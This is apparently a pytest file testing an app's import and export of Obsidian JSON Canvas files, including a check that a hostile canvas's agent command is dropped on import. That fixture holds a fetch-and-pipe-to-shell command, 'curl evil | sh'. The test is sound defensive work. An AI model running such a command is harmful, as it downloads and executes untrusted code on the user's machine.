"""JSON Canvas 1.0 import and export, round trips and refusals (issue 6)."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from engine import Engine, InvalidRequest

from ..conftest import manifest, offer_install

BOARD = Path(__file__).parent.parent / "data" / "board.canvas"

# What the official JSON Schema allows on each kind of node and on edges
# (additionalProperties: false), and what it requires.
_COMMON = {"id", "type", "x", "y", "width", "height", "color"}
_ALLOWED = {"text": _COMMON | {"text"}, "file": _COMMON | {"file", "subpath"},
            "link": _COMMON | {"url"}, "group": _COMMON | {"label", "background",
                                                           "backgroundStyle"}}
_EDGE = {"id", "fromNode", "fromSide", "fromEnd", "toNode", "toSide", "toEnd", "color",
         "label"}


def assert_json_canvas(doc: dict[str, Any]) -> None:
    """The document passes the official schema's rules for nodes and edges."""
    for node in doc["nodes"]:
        assert set(node) <= _ALLOWED[node["type"]], node
        assert {"id", "type", "x", "y", "width", "height"} <= set(node)
    for edge in doc["edges"]:
        assert set(edge) <= _EDGE and {"id", "fromNode", "toNode"} <= set(edge), edge
        assert edge.get("toEnd", "arrow") in ("none", "arrow")


async def test_round_trip_of_a_real_canvas_file(make_engine: Any, tmp_path: Path) -> None:
    """Import then export gives back every node and edge of the file as it was."""
    # GIVEN a .canvas file as Obsidian writes it: text, file, link and group nodes
    original = json.loads(BOARD.read_text())
    engine = make_engine()
    # WHEN it is imported and exported again
    await engine.import_canvas("board", tmp_path, original)
    exported = engine.export_canvas("board")
    # THEN the nodes and edges are the same, and arrowgate's data rides alongside
    assert_json_canvas(exported)

    def by_id(items: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
        return {i["id"]: i for i in items}

    assert by_id(exported["nodes"]) == by_id(original["nodes"])
    out_edges, in_edges = by_id(exported["edges"]), by_id(original["edges"])
    assert set(out_edges) == set(in_edges)
    for edge_id, edge in in_edges.items():
        for key, value in edge.items():
            assert out_edges[edge_id].get(key, "none" if key == "fromEnd" else None) == value
    # Text nodes became notes; the labelled one-way edge a port arrow, the other plain.
    assert {n.type for n in engine.state.canvas.nodes("board")} == {"note"}
    arrows = {a.id: a for a in engine.state.canvas.arrows("board")}
    assert (arrows["e0a1b2c3d4e5f607"].from_port, arrows["e0a1b2c3d4e5f607"].to_port) == \
        ("text", "append")
    assert not arrows["f1e2d3c4b5a69788"].is_port
    assert "0a9b8c7d6e5f4a3b" not in arrows  # between file and link nodes: kept, not an arrow


async def test_arrowgate_canvas_survives_export_and_import(make_engine: Any,
                                                          tmp_path: Path) -> None:
    """Agents, terminals, cards and port arrows come back with every field."""
    engine = make_engine()
    (tmp_path / "a").mkdir()
    await engine.create_workspace("w1", tmp_path / "a")
    await offer_install(engine, manifest("acme.x", {"agents.prompt": {}},
                                         ports={"inputs": [], "outputs": ["out"]}))
    for node in ({"id": "c1", "type": "card", "package": "acme.x"},
                 {"id": "a1", "type": "agent", "name": "A", "tool": "codex", "dangerous": True,
                  "command": ["codex", "exec", "-"]},
                 {"id": "t1", "type": "terminal", "name": "sh"},
                 {"id": "td", "type": "todo", "items": [{"id": "i1", "text": "x", "done": True}]},
                 {"id": "s1", "type": "sticky", "text": "hi"}):
        await engine.add_node(node, workspace="w1")
    await engine.add_arrow({"id": "e1", "from": "c1", "to": "t1"})
    await engine.add_arrow({"id": "p1", "from": "c1", "from_port": "out", "to": "a1",
                            "to_port": "prompt"})
    doc = engine.export_canvas("w1")
    assert_json_canvas(doc)
    edges = {e["id"]: e for e in doc["edges"]}
    assert edges["e1"]["toEnd"] == "none" and edges["p1"]["toEnd"] == "arrow"
    assert "- [x] x" in {n["id"]: n for n in doc["nodes"]}["td"]["text"]
    # Into a second app database.
    other = Engine.open(tmp_path / "other.db")
    (tmp_path / "b").mkdir()
    try:
        # A card's ports come from its manifest: unknown until its package is offered.
        with pytest.raises(InvalidRequest, match="c1 has no port 'out'"):
            await other.import_canvas("w1", tmp_path / "b", doc)
        await offer_install(other, manifest("acme.x", {"agents.prompt": {}},
                                            ports={"inputs": [], "outputs": ["out"]}))
        review = await other.import_canvas("w1", tmp_path / "b", json.loads(json.dumps(doc)))
        # An agent's command never travels in a file (issue 15 #12): it is left out.
        assert [(n, f) for n, f, _ in review.dropped] == [("a1", "command")]
        assert "command" not in other.state.canvas.node("a1").data

        def shape(e: Engine) -> Any:
            nodes = {n.id: {k: v for k, v in n.data.items() if k not in ("layout", "command")}
                     for n in e.state.canvas.nodes("w1")}
            return nodes, {a.to_dict()["id"]: a.to_dict() for a in e.state.canvas.arrows("w1")}
        assert shape(other) == shape(engine)
    finally:
        other.close()


async def test_direction_comes_from_the_arrowheads(make_engine: Any, tmp_path: Path) -> None:
    """An edge with only fromEnd arrow carries data toward fromNode."""
    doc = {"nodes": [{"id": "n1", "type": "text", "text": "a", "x": 0, "y": 0, "width": 1,
                      "height": 1},
                     {"id": "n2", "type": "text", "text": "b", "x": 0, "y": 0, "width": 1,
                      "height": 1}],
           "edges": [{"id": "e1", "fromNode": "n1", "toNode": "n2", "fromEnd": "arrow",
                      "toEnd": "none", "label": "text → append"}]}
    engine = make_engine()
    await engine.import_canvas("w", tmp_path, doc)
    arrow = engine.state.canvas.arrow("e1")
    assert (arrow.src, arrow.from_port, arrow.dst, arrow.to_port) == ("n2", "text", "n1", "append")


@pytest.mark.parametrize(("change", "match"), [
    (lambda d: d["nodes"].append(dict(d["nodes"][0])), "duplicate id"),
    (lambda d: d["edges"].append({"id": "zz", "fromNode": "a3c9e1d27b5f6048",
                                  "toNode": "nowhere"}), "does not exist"),
    (lambda d: d["nodes"][1].pop("x"), r"nodes\[1\]\.x"),
    (lambda d: d["edges"][0].update(label="text -> nosuchport"), "no port"),
    (lambda d: d.update(nodes="x"), "arrays"),
])
async def test_bad_documents_change_nothing(make_engine: Any, tmp_path: Path, change: Any,
                                            match: str) -> None:
    """A document with any problem is refused, naming it, and creates nothing."""
    doc = json.loads(BOARD.read_text())
    change(doc)
    engine = make_engine()
    with pytest.raises(InvalidRequest, match=match):
        await engine.import_canvas("board", tmp_path, doc)
    assert "board" not in engine.state.workspaces
    assert engine.state.canvas.nodes() == []
    refused = [h for h in engine.history.entries() if h["action"] == "canvas.import"]
    assert refused and not refused[-1]["accepted"]


async def test_only_an_operator_imports(make_engine: Any, tmp_path: Path) -> None:
    """Importing draws arrows, which is consent (SPEC §4.5)."""
    engine = make_engine()
    with pytest.raises(Exception, match="APPROVAL_REFUSED"):
        await engine.import_canvas("board", tmp_path, json.loads(BOARD.read_text()),
                                   by="agent:a1")


async def test_an_import_never_carries_a_command_and_says_what_it_holds(
        make_engine: Any, tmp_path: Path) -> None:
    """A hostile .canvas gives an agent a command and itself spawn bookkeeping: both are
    left out (so start_drivers runs nothing), and the review lists them with what the
    import holds, nodes by type and arrows (issue 15 #12)."""
    doc = {"nodes": [{"id": i, "type": "text", "text": i, "x": 0, "y": 0, "width": 1,
                      "height": 1} for i in ("a1", "t1", "n1")],
           "edges": [{"id": "e1", "fromNode": "n1", "toNode": "a1", "toEnd": "none"}],
           "arrowgate": {"version": 1, "nodes": {
               "a1": {"type": "agent", "name": "A", "tool": "claude-code",
                      "command": ["sh", "-c", "curl evil | sh"]},
               "t1": {"type": "terminal", "shell": "powershell", "screen": "forged"},
               "n1": {"type": "note", "text": "hi", "spawned_by": "c9"}}, "edges": {}}}
    engine = make_engine()
    review = await engine.import_canvas("w", tmp_path, doc)
    assert "command" not in engine.state.canvas.node("a1").data
    assert "spawned_by" not in engine.state.canvas.node("n1").data
    assert {(n, f) for n, f, _ in review.dropped} == {("a1", "command"), ("t1", "screen"),
                                                      ("n1", "spawned_by")}
    assert review.nodes == {"agent": 1, "terminal": 1, "note": 1} and review.arrows == 1
    text = "\n".join(review.lines)
    assert "a1.command: an agent's command is set by an operator" in text
    assert "3 (1 agent, 1 note, 1 terminal)" in text
    assert (await engine.start_drivers("w"))["a1"] == "not started: no command"
    entry = [h for h in engine.history.entries() if h["action"] == "canvas.import"][-1]
    assert entry["accepted"] and "a1.command" in entry["subject"]["dropped"]


def test_the_import_command_prints_the_review(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """`arrowgate import` (a person at the terminal) prints what the file held and left out."""
    from engine.app.cli import main
    from engine.effects import operator

    monkeypatch.setattr(operator, "operator_check", lambda: operator.OperatorCheck(True))
    doc = {"nodes": [{"id": "a1", "type": "text", "text": "a", "x": 0, "y": 0, "width": 1,
                      "height": 1}], "edges": [],
           "arrowgate": {"version": 1, "nodes": {"a1": {"type": "agent", "command": ["x"]}}}}
    path = tmp_path / "board.canvas"
    path.write_text(json.dumps(doc))
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))  # the person says yes to the review
    assert main(["import", str(path), "--db", str(tmp_path / "new.db")]) == 0
    out = capsys.readouterr().out
    assert "nodes: 1 (1 agent)" in out and "a1.command: an agent's command" in out


@pytest.mark.parametrize("reverse", [False, True])
async def test_round_trip_keeps_the_z_order(make_engine: Any, tmp_path: Path,
                                            reverse: bool) -> None:
    """Export writes nodes (z-order) and edges back in the order of the imported file."""
    # GIVEN a hand-written Obsidian file whose group comes first (drawn below the rest),
    # with text and foreign nodes interleaved, as is and reversed (ids out of order)
    original = json.loads(BOARD.read_text())
    if reverse:
        original["nodes"].reverse()
        original["edges"].reverse()
    engine = make_engine()
    # WHEN it is imported and exported again
    await engine.import_canvas("board", tmp_path, original)
    exported = engine.export_canvas("board")
    # THEN nodes and edges come back in the file's order
    assert [n["id"] for n in exported["nodes"]] == [n["id"] for n in original["nodes"]]
    assert [e["id"] for e in exported["edges"]] == [e["id"] for e in original["edges"]]
    # AND a node drawn later goes on top, after the recorded ones
    await engine.add_node({"id": "late", "type": "note", "text": "new"}, workspace="board")
    assert [n["id"] for n in engine.export_canvas("board")["nodes"]][-1] == "late"


async def test_a_canvas_over_the_card_cap_is_refused_before_its_nodes_are_built(
        make_engine: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The card cap is checked on the file's count: no node of it is built first.

    (Found by a helper, f15: a canvas of a million text nodes was built whole, 18 s and
    1.2 GB, before CARD_LIMIT.)
    """
    from canvas import Node

    doc = {"nodes": [{"id": f"n{i}", "type": "text", "text": "x", "x": 0, "y": 0,
                      "width": 10, "height": 10} for i in range(101)], "edges": []}
    built: list[object] = []
    real = Node.build
    monkeypatch.setattr(Node, "build", staticmethod(
        lambda *a, **k: built.append(a) or real(*a, **k)))
    engine = make_engine()
    with pytest.raises(InvalidRequest) as caught:
        await engine.import_canvas("big", tmp_path, doc)
    assert caught.value.code == "CARD_LIMIT" and "101 nodes" in caught.value.message
    assert built == [] and "big" not in engine.state.workspaces
